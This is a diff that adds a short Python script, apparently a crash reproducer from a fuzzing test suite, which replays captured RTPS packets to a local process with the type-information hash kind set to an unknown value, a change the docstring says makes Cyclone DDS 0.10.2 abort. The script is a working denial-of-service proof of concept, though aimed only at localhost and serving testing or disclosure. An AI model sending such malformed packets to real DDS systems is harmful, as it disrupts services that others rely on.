@@ -1,0 +1,53 @@
+#!/usr/bin/env python3
+"""Tells a participant of endpoints whose types are identified by no known kind of hash, at which
+Cyclone DDS 0.10.2 aborts.
+
+usage: deadly.py --capture FILE --pid PID
+
+FILE is what tests/rtps/peer sent (fuzz.py); PID the participant's process.
+"""
+import argparse
+import struct
+import time
+
+from rtps import Reporter, captured, from_port, own_of, own_socket, target_of
+
+TYPE_INFORMATION = b"\x75\0"
+HASH_MINIMAL, HASH_OF_NO_KIND = b"\xf1", b"\xff"
+
+
+def spoiled(datagram):
+    at = datagram.find(TYPE_INFORMATION)
+    if at < 0:
+        return datagram
+    at = datagram.index(HASH_MINIMAL, at)
+    return datagram[:at] + HASH_OF_NO_KIND + datagram[at + 1:]
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--capture", required=True)
+    parser.add_argument("--pid", type=int, required=True)
+    options = parser.parse_args()
+    datagrams = captured(options.capture)
+    own, target, to = own_of(datagrams), target_of(datagrams), target_of(datagrams)
+    prefix = struct.pack(">IQ", 0x01100001, time.monotonic_ns())
+    out = own_socket()
+    until = time.monotonic() + 5
+    while len(Reporter.open_ports(options.pid)) < 3 and time.monotonic() < until:
+        time.sleep(0.05)  # it only begins
+    for number, datagram in enumerate(datagrams):
+        datagram = from_port(spoiled(datagram).replace(own, prefix).replace(target, to), out.getsockname()[1])
+        for port in Reporter.open_ports(options.pid):
+            out.sendto(datagram, ("127.0.0.1", port))
+        time.sleep(0.3 if number == 0 else 0.001)
+        try:
+            while True:
+                heard = out.recv(65536)
+                if heard[:4] == b"RTPS":
+                    to = heard[8:20]
+        except OSError:
+            pass
+
+
+main()
